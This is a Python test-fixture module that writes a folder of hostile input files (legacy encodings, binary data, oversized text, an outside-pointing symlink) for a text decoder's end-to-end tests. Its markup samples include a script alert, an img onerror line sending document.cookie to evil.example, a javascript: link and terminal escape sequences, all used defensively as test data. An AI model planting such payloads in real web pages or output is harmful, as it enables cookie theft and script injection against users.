"""A folder of hostile input files for the decoder and the producer's end-to-end test.

    from hostile import make_hostile_folder
    expected = make_hostile_folder(tmp_path / "in", Path("seeds"))

``expected`` maps each name (relative to the folder, ``/``-separated) to:

* ``"enriched:<lang>"`` - must come out as an article in language ``<lang>``
  (``"enriched"`` alone when the language is not known, e.g. unknown seeds);
* ``"deadletter:<reason>"`` - must be refused with that
  :class:`streams.decode.UndecodableInput` reason;
* ``"skipped"`` - must not be read at all (the symlink; the sub-folder and its
  file unless ``recursive=True``).

All files are named ``*.txt`` on purpose: the producer must judge by content,
not by extension. Choices worth knowing:

* ``latin_invalid_utf8.txt`` is UTF-8 German with stray Windows-1252 bytes
  (a smart apostrophe ``0x92``, ``0xe9``): decoded, the stray bytes read as
  Windows-1252 (encoding ``utf_8+cp1252``) -> ``enriched:de``.
* ``symlink_outside.txt`` points to a sibling *outside* the folder,
  ``<folder>.outside-secret.txt``, whose text contains :data:`OUTSIDE_MARKER`;
  no article may ever contain that marker.
* ``too_large.txt`` is valid UTF-8 text of ``DEFAULT_MAX_BYTES + 1`` bytes, so
  only the size limit can refuse it.
"""

from __future__ import annotations

import os
import random
import shutil
from pathlib import Path

try:
    from streams.decode import DEFAULT_MAX_BYTES
except ImportError:  # pragma: no cover
    DEFAULT_MAX_BYTES = 1_000_000

OUTSIDE_MARKER = "OUTSIDE-SECRET-7f3a9c"

# Languages of the repository's seed files (by name); other seeds -> "enriched".
KNOWN_SEEDS = {
    "000_840345e631f4d164.txt": "hi",
    "001_6c253e1a9371049f.txt": "ar",
    "002_8d1172a844a6c25d.txt": "de",
    "003_94cb28c499060305.txt": "ja",
    "004_371679b515408fe9.txt": "vi",
}

# --- legacy-encoded test texts (written for these tests) -----------------------------

JA = ("東京証券取引所では二十日、半導体関連株を中心に買い注文が広がり、日経平均株価は前日比で四百円以上値上がりした。"
      "市場関係者によると、米国の長期金利が低下したことで投資家の警戒感が和らいだという。"
      "一方、円相場は一ドル百五十円台前半で推移しており、輸出企業の業績への影響を懸念する声も出ている。"
      "政府は来週、追加の経済対策を閣議決定する方針だ。\n")
ZH = ("国家统计局周三公布的数据显示，今年前三季度国内生产总值同比增长百分之五点二，高于市场预期。"
      "分析人士指出，消费和服务业的恢复是推动经济增长的主要因素，但房地产市场仍然面临较大压力。"
      "与此同时，人民币对美元汇率保持基本稳定，外汇储备规模小幅上升。"
      "专家建议，政府应进一步扩大内需，加大对中小企业的支持力度。\n")
AR = ("أعلنت وزارة المالية يوم الأربعاء أن الاقتصاد الوطني سجل نموا بنسبة ثلاثة في المئة خلال الربع الثالث من العام الجاري. "
      "وقال الوزير في مؤتمر صحفي إن الحكومة ستواصل دعم المشاريع الصغيرة والمتوسطة وتوفير فرص العمل للشباب. "
      "وأشار إلى أن أسعار النفط المرتفعة ساعدت في تقليص عجز الموازنة، لكنه حذر من تقلبات الأسواق العالمية.\n")
RU = ("Центральный банк России в пятницу повысил ключевую ставку до шестнадцати процентов годовых. "
      "По словам председателя банка, решение было принято в связи с ускорением инфляции и ослаблением рубля. "
      "Аналитики ожидают, что высокая ставка сохранится как минимум до середины следующего года. "
      "Министерство финансов заявило, что бюджет на следующий год будет сбалансирован.\n")
KO = ("한국은행은 목요일 기준금리를 연 3.5퍼센트로 동결한다고 밝혔다. "
      "이창용 총재는 기자회견에서 물가 상승률이 여전히 목표 수준을 웃돌고 있어 긴축 기조를 유지할 필요가 있다고 말했다. "
      "전문가들은 가계부채 증가와 부동산 시장의 불확실성이 통화정책 결정에 영향을 미쳤다고 분석했다. "
      "정부는 다음 주 경제정책방향을 발표할 예정이다.\n")
DE = ("Die Europäische Zentralbank hat am Donnerstag die Leitzinsen unverändert gelassen. "
      "Präsidentin Christine Lagarde sagte in Frankfurt, die Inflation sei zwar gesunken, bleibe aber über dem Zielwert von zwei Prozent. "
      "Ökonomen erwarten, dass die Zinsen bis zum Frühjahr auf dem derzeitigen Niveau bleiben. "
      "Die Bundesregierung begrüßte die Entscheidung und kündigte weitere Maßnahmen zur Stärkung der Wirtschaft an.\n")
DE2 = ("Der Autobauer aus Wolfsburg hat im dritten Quartal deutlich weniger Fahrzeuge verkauft als erwartet. "
       "Vorstandschef Oliver Blume kündigte an, die Kosten in den Werken in Sachsen und Niedersachsen weiter zu senken. "
       "Betriebsräte kritisierten die Pläne scharf und drohten mit Warnstreiks.\n")
FR = ("Le gouvernement a présenté mercredi son projet de budget pour l'année prochaine. "
      "Le ministre de l'Économie a assuré que le déficit serait ramené sous les cinq pour cent du produit intérieur brut. "
      "Les syndicats dénoncent des économies « brutales » dans les services publics.\n")
EN = ("The central bank left interest rates unchanged on Wednesday, citing persistent inflation in services. "
      "Officials said they would watch wage growth closely before deciding on any cut next year. "
      "Markets had largely expected the decision, and bond yields barely moved after the announcement.\n")

# (file name, language, text, codec used to write it)
LEGACY: list[tuple[str, str, str, str]] = [
    ("ja_shift_jis.txt", "ja", JA, "shift_jis"),
    ("zh_gb18030.txt", "zh", ZH, "gb18030"),
    ("ar_windows1256.txt", "ar", AR, "cp1256"),
    ("ru_windows1251.txt", "ru", RU, "cp1251"),
    ("ko_euc_kr.txt", "ko", KO, "euc_kr"),
    ("de_iso8859_1.txt", "de", DE, "latin_1"),
    ("de_utf16_bom.txt", "de", DE2, "utf-16"),  # Python's utf-16 writes a BOM
]

# Stray Windows-1252 bytes inside UTF-8 German text, and what they must decode to.
LATIN_INVALID_BYTES = ("Die Gewerkschaft erklärte am Montag, man werde die Gespräche fortsetzen. ".encode()
                       + b"Der Verband sprach von einem \x93fairen Angebot\x94, die Arbeitnehmer nicht. "
                       + "Bis Freitag soll eine Einigung über die Löhne erzielt werden; das Caf".encode()
                       + b"\xe9 am Marktplatz bleibt ge\xf6ffnet.\n")
LATIN_INVALID_TEXT = ("Die Gewerkschaft erklärte am Montag, man werde die Gespräche fortsetzen. "
                      "Der Verband sprach von einem \u201cfairen Angebot\u201d, die Arbeitnehmer nicht. "
                      "Bis Freitag soll eine Einigung über die Löhne erzielt werden; das Café am Marktplatz "
                      "bleibt geöffnet.\n")

HOSTILE_MARKUP = (
    "Opposition leader <b>Maria O'Neil</b> met \x1b[31mJohn Smith\x1b[0m in Brussels on Friday "
    "to discuss the trade agreement.\x1b]0;pwned title\x07 "
    "<script>alert(\"Jean-Luc Picard\")</script> "
    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)"> '
    "Both sides said the talks with <a href=\"javascript:alert(1)\">Angela Merkel</a> and "
    "Emmanuel Macron had been constructive, and a second round is planned for next month.\r\n"
    "A spokesperson for the European Commission declined to comment on the details.\r\n"
)
SAVED_PAGE = (
    "<!DOCTYPE html><html><head><meta charset='windows-1252'><title>Börse Frankfurt</title>"
    "<script>document.write('\x1b[31mAngela Merkel')</script></head><body>"
    "<nav>Startseite | Märkte | Über uns</nav><article><h1>Börse Frankfurt: Dax schließt höher</h1>"
    "<p>Der Dax hat am Freitag in Frankfurt höher geschlossen. Gefragt waren vor allem die Aktien "
    "von Siemens und SAP, während die Papiere der Deutschen Bank nachgaben.</p>"
    "<p>Händler verwiesen auf die Zinsentscheidung der Europäischen Zentralbank in der kommenden Woche.</p>"
    "</article><footer>© Beispiel Verlag · Impressum</footer></body></html>")

# what decode_article must return for HOSTILE_MARKUP: escape sequences gone, markup kept as text
HOSTILE_MARKUP_TEXT = (
    "Opposition leader <b>Maria O'Neil</b> met John Smith in Brussels on Friday "
    "to discuss the trade agreement. "
    "<script>alert(\"Jean-Luc Picard\")</script> "
    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)"> '
    "Both sides said the talks with <a href=\"javascript:alert(1)\">Angela Merkel</a> and "
    "Emmanuel Macron had been constructive, and a second round is planned for next month.\n"
    "A spokesperson for the European Commission declined to comment on the details.\n"
)


def png_like(rng: random.Random) -> bytes:
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
            + rng.randbytes(2048))


def long_single_line(min_bytes: int = 300_000) -> str:
    """Many English sentences on one line, no newline at all (~300 KB)."""
    sentence = EN.replace("\n", " ")
    return sentence * (min_bytes // len(sentence) + 1)


def too_large_bytes(max_bytes: int = DEFAULT_MAX_BYTES) -> bytes:
    """Valid UTF-8 English text of exactly ``max_bytes + 1`` bytes."""
    body = (EN * (max_bytes // len(EN) + 2)).encode()
    return body[: max_bytes + 1]


def make_hostile_folder(path: Path, seeds_dir: Path | None = None, *, recursive: bool = False,
                        max_bytes: int = DEFAULT_MAX_BYTES) -> dict[str, str]:
    """Write the hostile files into ``path`` (created) and return name -> expected outcome.

    ``recursive`` says whether the producer under test descends into sub-folders;
    ``max_bytes`` is its size limit (the too-large file is ``max_bytes + 1`` bytes).
    Deterministic: the random bytes come from a fixed seed.
    """
    path = Path(path)
    path.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20261123)
    expected: dict[str, str] = {}

    def write(name: str, data: bytes, outcome: str) -> None:
        target = path / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        expected[name] = outcome

    if seeds_dir is not None:
        for seed in sorted(Path(seeds_dir).iterdir()):
            if seed.is_file() and not seed.is_symlink():
                name = f"seed_{seed.name}"
                shutil.copyfile(seed, path / name)
                lang = KNOWN_SEEDS.get(seed.name)
                expected[name] = f"enriched:{lang}" if lang else "enriched"

    for name, lang, text, codec in LEGACY:
        write(name, text.encode(codec), f"enriched:{lang}")

    write("latin_invalid_utf8.txt", LATIN_INVALID_BYTES, "enriched:de")
    write("hostile_markup_ansi.txt", HOSTILE_MARKUP.encode(), "enriched:en")
    write("long_single_line.txt", long_single_line().encode(), "enriched:en")
    # a saved web page in a legacy encoding: its article, not its script, menu or footer
    write("saved_page.html", SAVED_PAGE.encode("cp1252"), "enriched:de")

    write("binary_png.txt", png_like(rng), "deadletter:binary")
    write("binary_random.txt", rng.randbytes(4096), "deadletter:binary")
    write("binary_nul_heavy.txt", (b"\x00" * 64 + b"data") * 64, "deadletter:binary")
    write("empty.txt", b"", "deadletter:empty")
    write("whitespace_only.txt", b" \n\t\r\n   \n\n", "deadletter:whitespace-only")
    write("too_large.txt", too_large_bytes(max_bytes), "deadletter:too-large")

    # a symlink to a file outside the folder: must not be followed
    outside = path.parent / f"{path.name}.outside-secret.txt"
    outside.write_text(f"{OUTSIDE_MARKER} This text lives outside the input folder and must never be read.\n")
    link = path / "symlink_outside.txt"
    if link.is_symlink() or link.exists():
        link.unlink()
    try:
        os.symlink(outside.resolve(), link)
        expected["symlink_outside.txt"] = "skipped"
    except (OSError, NotImplementedError):  # pragma: no cover - no symlinks on this filesystem
        pass

    # a sub-folder with an ordinary article in it
    (path / "subdir").mkdir(exist_ok=True)
    expected["subdir"] = "skipped"
    write("subdir/nested_fr.txt", FR.encode(), "enriched:fr" if recursive else "skipped")
    return expected
